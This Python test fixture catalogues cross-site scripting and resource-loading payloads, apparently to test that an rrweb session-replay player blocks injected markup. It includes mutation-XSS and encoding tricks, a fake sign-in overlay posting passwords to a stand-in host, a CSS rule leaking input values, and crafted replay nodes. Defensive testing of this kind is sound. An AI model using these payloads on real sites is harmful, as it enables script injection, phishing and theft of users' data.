"""
What an attacker who knows a site's public key would have in a recording.

In each markup FIRE stands for a call that tells the test that a script ran, TRAP for a host that
is not the site's. The families are those of the usual collections; sources are the elements and
attributes of the HTML, SVG and MathML standards that run, load or navigate.
"""

from __future__ import annotations

from typing import Any

MARKUP: dict[str, str] = {
    # scripts
    "script": "<script>FIRE</script>",
    "script_src": "<script src='http://TRAP/a.js'></script>",
    "script_module": "<script type=module>FIRE</script>",
    "script_odd_case": "<ScRiPt/x>FIRE</sCrIpT>",
    "script_svg": "<svg><script>FIRE</script></svg>",
    "script_svg_href": "<svg><script href='http://TRAP/b.js'></script></svg>",
    "script_data": "<script src='data:text/javascript,FIRE'></script>",
    "import_map": "<script type=importmap>{\"imports\":{\"a\":\"http://TRAP/c.js\"}}</script><script type=module>import 'a'</script>",
    "speculation": "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"http://TRAP/spec\"]}]}</script>",
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=FIRE>\"></noscript>",
    "template": "<template><script>FIRE</script></template>",
    "shadow_template": "<div><template shadowrootmode=open><img src=x onerror=FIRE></template></div>",
    # handlers that need nobody
    "img_onerror": "<img src=x onerror=FIRE>",
    "img_no_quotes": "<img/src=x/onerror=FIRE>",
    "img_entity": "<img src=x onerror=&#70;IRE&#59;>",
    "image_tag": "<image src=x onerror=FIRE>",
    "svg_onload": "<svg onload=FIRE></svg>",
    "svg_animate": "<svg><animate onbegin=FIRE attributeName=x dur=1s></svg>",
    "svg_set": "<svg><set onbegin=FIRE attributename=x></svg>",
    "svg_image": "<svg><image href=x onerror=FIRE></svg>",
    "body_onload": "<body onload=FIRE>",
    "body_onpageshow": "<body onpageshow=FIRE>",
    "input_autofocus": "<input autofocus onfocus=FIRE>",
    "textarea_autofocus": "<textarea autofocus onfocus=FIRE></textarea>",
    "details_toggle": "<details open ontoggle=FIRE>x</details>",
    "marquee": "<marquee onstart=FIRE>x</marquee>",
    "video_source": "<video><source onerror=FIRE></video>",
    "audio_error": "<audio src=x onerror=FIRE></audio>",
    "style_onload": "<style onload=FIRE></style>",
    "link_onerror": "<link rel=stylesheet href=x onerror=FIRE>",
    "iframe_onload": "<iframe onload=FIRE></iframe>",
    "object_onerror": "<object data=x onerror=FIRE></object>",
    "css_animation": "<style>@keyframes k{}</style><b style='animation:k 1s' onanimationstart=FIRE>x</b>",
    "transition": "<b style='transition:color 1s' ontransitionrun=FIRE>x</b>",
    "popover": "<button popovertarget=p>x</button><div popover id=p onbeforetoggle=FIRE>y</div>",
    "content_visibility": "<b style='content-visibility:auto' oncontentvisibilityautostatechange=FIRE>x</b>",
    # handlers that need a click
    "a_onclick": "<a href=# onclick=FIRE>x</a>",
    "a_onmouseover": "<a onmouseover=FIRE>x</a>",
    "a_javascript": "<a href='javascript:FIRE'>x</a>",
    "a_javascript_tab": "<a href='java&#9;script:FIRE'>x</a>",
    "a_javascript_control": "<a href='&#1;javascript:FIRE'>x</a>",
    "a_javascript_case": "<a href='JaVaScRiPt:FIRE'>x</a>",
    "a_data": "<a href='data:text/html,<script>FIRE</script>' target=_blank>x</a>",
    "a_top": "<a href='http://TRAP/top' target=_top>x</a>",
    "a_parent": "<a href='http://TRAP/parent' target=_parent>x</a>",
    "a_blank": "<a href='http://TRAP/blank' target=_blank>x</a>",
    "a_named": "<iframe name=stage></iframe><a href='http://TRAP/named' target=stage>x</a>",
    "a_self": "<a href='http://TRAP/self'>x</a>",
    "a_ping": "<a href=# ping='http://TRAP/ping'>x</a>",
    "a_download": "<a href='http://TRAP/file.exe' download>x</a>",
    "area": "<map name=m><area href='javascript:FIRE' shape=default></map>",
    "svg_a": "<svg><a xlink:href='javascript:FIRE'><text y=9>x</text></a></svg>",
    "svg_a_animate": "<svg><a><animate attributeName=href values='javascript:FIRE'/><text y=9>x</text></a></svg>",
    "math": "<math><mtext href='javascript:FIRE' xlink:href='javascript:FIRE'>x</mtext></math>",
    "form_action": "<form action='javascript:FIRE'><button>x</button></form>",
    "form_remote": "<form action='http://TRAP/post' method=post target=_top><input name=pw value=1><button>x</button></form>",
    "formaction": "<form><button formaction='javascript:FIRE'>x</button></form>",
    "form_input": "<form><input type=submit formaction='http://TRAP/submit' value=x></form>",
    "form_outside": "<form id=f action='http://TRAP/out'></form><button form=f>x</button>",
    "form_dialog": "<form method=dialog action='http://TRAP/d'><button>x</button></form>",
    # frames and plug-ins
    "iframe_javascript": "<iframe src='javascript:FIRE'></iframe>",
    "iframe_data": "<iframe src='data:text/html,<script>parent.FIRE</script>'></iframe>",
    "iframe_srcdoc": "<iframe srcdoc='<script>FIRE</script>'></iframe>",
    "iframe_srcdoc_img": "<iframe srcdoc='&lt;img src=x onerror=FIRE&gt;'></iframe>",
    "iframe_remote": "<iframe src='http://TRAP/frame'></iframe>",
    "iframe_sandbox": "<iframe sandbox='allow-scripts allow-top-navigation allow-same-origin' srcdoc='<script>FIRE</script>'></iframe>",
    "iframe_hint": "<iframe srcdoc='<link rel=preconnect href=http://sd.TRAP/>'></iframe>",
    "frameset": "<frameset onload=FIRE><frame src='javascript:FIRE'></frameset>",
    "object_data": "<object data='data:text/html,<script>FIRE</script>'></object>",
    "object_remote": "<object data='http://TRAP/object.html' type=text/html></object>",
    "embed": "<embed src='http://TRAP/embed.svg' type=image/svg+xml>",
    "embed_code": "<embed code='http://TRAP/x.swf' allowscriptaccess=always>",
    "portal": "<portal src='http://TRAP/portal'></portal>",
    "fenced_frame": "<fencedframe src='http://TRAP/fenced'></fencedframe>",
    "applet": "<applet code=x codebase='http://TRAP/'></applet>",
    # loads
    "img_remote": "<img src='http://TRAP/i.png'>",
    "img_srcset": "<img srcset='http://TRAP/s.png 1x'>",
    "picture": "<picture><source srcset='http://TRAP/p.png'><img></picture>",
    "input_image": "<input type=image src='http://TRAP/ii.png'>",
    "body_background": "<table background='http://TRAP/bg.png'><tr><td>x</table>",
    "video_poster": "<video poster='http://TRAP/po.png' src='http://TRAP/v.mp4' autoplay></video>",
    "audio_remote": "<audio src='http://TRAP/a.mp3' autoplay></audio>",
    "track": "<video><track default src='http://TRAP/t.vtt'></video>",
    "svg_use": "<svg><use href='http://TRAP/u.svg#a'/></svg>",
    "svg_image_remote": "<svg><image href='http://TRAP/si.png'/></svg>",
    "svg_feimage": "<svg><filter id=f1><feImage href='http://TRAP/fe.png'/></filter><rect width=9 height=9 filter='url(#f1)'/></svg>",
    "link_sheet": "<link rel=stylesheet href='http://TRAP/l.css'>",
    "link_icon": "<link rel=icon href='http://TRAP/favicon.ico'>",
    "link_preload": "<link rel=preload as=image href='http://TRAP/pre.png'>",
    "link_prefetch": "<link rel=prefetch href='http://TRAP/prefetch'>",
    "link_preconnect": "<link rel=preconnect href='http://pc.TRAP/'>",
    "link_dns": "<link rel=dns-prefetch href='http://dns.TRAP/'>",
    "link_prerender": "<link rel=prerender href='http://TRAP/prerender'>",
    "link_modulepreload": "<link rel=modulepreload href='http://TRAP/m.js'>",
    "link_manifest": "<link rel=manifest href='http://TRAP/man.json'>",
    "link_import": "<link rel=import href='http://TRAP/import.html'>",
    "css_import": "<style>@import 'http://TRAP/im.css';</style>",
    "css_background": "<b style='background:url(http://TRAP/cb.png)'>x</b>",
    "css_image_set": "<b style='background:image-set(url(http://TRAP/is.png) 1x)'>x</b>",
    "css_cursor": "<b style='cursor:url(http://TRAP/cu.png),auto'>x</b>",
    "css_list": "<ul style='list-style:url(http://TRAP/li.png)'><li>x</ul>",
    "css_content": "<style>.cc::before{content:url(http://TRAP/co.png)}</style><b class=cc>x</b>",
    "css_font": "<style>@font-face{font-family:ff;src:url(http://TRAP/f.woff2)}.ff{font-family:ff}</style><b class=ff>x</b>",
    "css_mask": "<b style='mask-image:url(http://TRAP/ma.png);display:block'>x</b>",
    "css_filter": "<b style='filter:url(http://TRAP/fi.svg#a)'>x</b>",
    "css_steal": "<style>input[value^=p]{background:url(http://TRAP/steal)}</style><input value=pw>",
    "css_expression": "<b style='width:expression(FIRE)'>x</b>",
    "css_behavior": "<b style='behavior:url(http://TRAP/h.htc);-moz-binding:url(http://TRAP/m.xml)'>x</b>",
    "css_breakout": "<style>a{}</style><style>*{color:'</style><img src=x onerror=FIRE>'}</style>",
    # the document
    "meta_refresh": "<meta http-equiv=refresh content='0;url=http://TRAP/refresh'>",
    "meta_refresh_script": "<meta http-equiv=refresh content='0;url=javascript:FIRE'>",
    "meta_cookie": "<meta http-equiv=set-cookie content='stolper=x'>",
    "meta_csp": "<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\">",
    "meta_referrer": "<meta name=referrer content=unsafe-url>",
    "base_target": "<base target=_top>",
    "base_href": "<base href='http://TRAP/base/'><img src='rel.png'>",
    # parsers that disagree
    "mxss_noscript": "<svg></p><style><a id=\"</style><img src=x onerror=FIRE>\">",
    "mxss_math": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=FIRE&gt;\">",
    "mxss_form": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=FIRE>",
    "mxss_title": "<svg><title><style><img src=x onerror=FIRE></style></title></svg>",
    "mxss_backtick": "<img alt=\"``onerror=FIRE\" src=x>",
    "mxss_xmp": "<xmp><img title=\"</xmp><img src=x onerror=FIRE>\"></xmp>",
    "comment": "<!--><img src=x onerror=FIRE>-->",
    "comment_conditional": "<!--[if gte IE 4]><script>FIRE</script><![endif]-->",
    "cdata": "<svg><![CDATA[><img src=x onerror=FIRE>]]></svg>",
    "textarea_breakout": "<textarea></textarea><img src=x onerror=FIRE></textarea>",
    "title_breakout": "<title></title><img src=x onerror=FIRE></title>",
    "plaintext": "<plaintext><img src=x onerror=FIRE>",
    "attribute_breakout": "<b title='\"><img src=x onerror=FIRE>'>x</b>",
    "full_width": "\uff1cscript\uff1eFIRE\uff1c/script\uff1e",
    "overlong": "\u00c0\u00bcscript\u00c0\u00beFIRE\u00c0\u00bc/script\u00c0\u00be",
    "utf7": "+ADw-script+AD4-FIRE+ADw-/script+AD4-",
    "line_separator": "</script>\u2028<img src=x onerror=FIRE>",
    "zero_width": "<scr\u200bipt>FIRE</scr\u200bipt><img src=x one\u200brror=FIRE>",
    "jinja": "{{ 7*7 }}{% raw %}<img src=x onerror=FIRE>{% endraw %}",
    "script_json": "</script><script>FIRE</script>",
    # names that take the place of the document's own
    "clobber_document": "<form id=document><input name=cookie></form><img name=querySelector><img name=body>",
    "clobber_window": "<a id=parent></a><a id=top href='http://TRAP/top'></a><a id=self></a><form name=location></form>",
    "clobber_form": "<form><input name=attributes><input name=parentNode><input name=childNodes><input name=remove></form>",
    "clobber_nodes": "<form id=stage><output name=children></output></form><div id=replay></div>",
}  # fmt: skip

HINTS = ("link_preconnect", "link_dns", "link_prefetch", "iframe_remote", "iframe_hint")
"""What could make a browser open a connection, though a policy lets it ask for nothing."""

PHISH = (
    "<form action='http://TRAP/phish' method=post style='position:fixed;inset:0;z-index:9;background:#fff'>"
    "<h1>Your session has ended. Sign in again.</h1><input name=user id=phish><input type=password "
    "name=password><button id=send>Sign in</button><a id=leave href='http://TRAP/leave'>Help</a></form>"
)


def filled(markup: str, name: str, trap: str) -> str:
    """Return *markup* with its script and its host, so that what comes of it names the vector."""
    return markup.replace("FIRE", f"fired(`{name}`)").replace("TRAP", trap)


def crafted(fire: str, trap: str, first: int) -> list[dict[str, Any]]:
    """Return nodes that no parser makes: what rrweb's player reads in its own way. Ids from *first*."""
    remote = f"http://{trap}/crafted"

    def node(tag: str, attributes: dict[str, Any], *children: Any, **more: Any) -> dict[str, Any]:
        nonlocal first
        first += 1
        made = {"type": 2, "id": first, "tagName": tag, "attributes": attributes}
        return {**made, "childNodes": list(children), **more}

    def text(content: str, **more: Any) -> dict[str, Any]:
        nonlocal first
        first += 1
        return {"type": 3, "id": first, "textContent": content, **more}

    return [
        node("script", {}, text(fire)),
        node("SCRIPT", {"SRC": remote}, text(fire)),
        node("iframe", {"rr_src": remote}),
        node("IFRAME", {"Src": remote}),
        node("iframe", {"srcdoc": f"<script>{fire}</script>", "sandbox": "allow-scripts"}),
        node("img", {"rr_dataURL": remote, "srcset": "x"}),
        node("canvas", {"rr_dataURL": remote}),
        node("video", {"rr_mediaState": "played", "src": remote}),
        node("style", {"_cssText": f"@import '{remote}'; b {{ background: url({remote}) }}"}),
        node("link", {"rel": "stylesheet", "_cssText": f"@import url({remote});", "href": remote}),
        node("link", {"rel": "preconnect", "href": f"http://crafted.{trap}"}),
        node("link", {"rel": "PRECONNECT dns-prefetch", "HREF": f"http://case.{trap}"}),
        node("b", {"style": f"background: url({remote})", "onpointerrawupdate": fire}),
        node("textarea", {"value": f"</textarea><script>{fire}</script>"}),
        node("x-evil", {"onclick": fire}, isCustom=True),
        node("script", {"href": remote, "xlink:href": remote}, text(fire), isSVG=True),
        node("div", {}, node("img", {"src": "x:", "onerror": fire}, isShadow=True), isShadowHost=True),
        node("meta", {"http-equiv": "refresh", "content": f"0;url={remote}"}),
        node("base", {"href": remote + "/", "target": "_top"}),
        node("a", {"href": "javascript:" + fire, "target": "_top", "onclick": fire}, text("x")),
        node("object", {"data": "javascript:" + fire}),
        node("embed", {"src": "javascript:" + fire}),
        node("form", {"action": "javascript:" + fire}, node("button", {"type": "submit"})),
        {"type": 5, "id": first + 1, "textContent": f"--><script>{fire}</script>"},
    ]  # fmt: skip
